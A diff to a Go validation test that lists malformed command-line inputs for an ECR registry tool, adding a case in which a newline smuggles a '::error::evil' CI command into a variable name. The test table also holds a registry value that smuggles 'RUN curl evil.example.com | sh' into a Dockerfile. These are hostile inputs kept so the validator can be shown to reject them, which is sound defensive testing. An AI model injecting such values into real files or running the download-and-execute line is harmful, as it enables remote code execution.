@@ -84,6 +84,7 @@ func TestBadInputCatalogue(t *testing.T) {
 		{"--rule evil.example=foo", []string{"map", "--registry", reg, "--rule", "evil.example=foo", "alpine"}, 2, "is not an upstream an ECR pull-through cache rule can have"},
 		{"--no-docker-config with --docker-config", []string{"login", "--no-docker-config", "--docker-config", out}, 2, "not both"},
 		{"--aws-timeout -1s", []string{"login", "--aws-timeout", "-1s"}, 2, "use a positive duration"},
+		{"--id-token-var with a newline", []string{"login", "--id-token-var", "X\n::error::evil"}, 2, "is not a variable name"},
 		{"--concurrency -5", []string{"setup", good, "--concurrency", "-5"}, 2, "--concurrency -5"},
 		{"sandbox --rate-window -1s", []string{"sandbox", "--rate-window", "-1s"}, 2, "--rate-window -1s"},
 		{"registry with a newline", []string{"rewrite", "-f", good, "--registry", "x\nRUN curl evil.example.com | sh"}, 2, "control or non-ASCII character"},
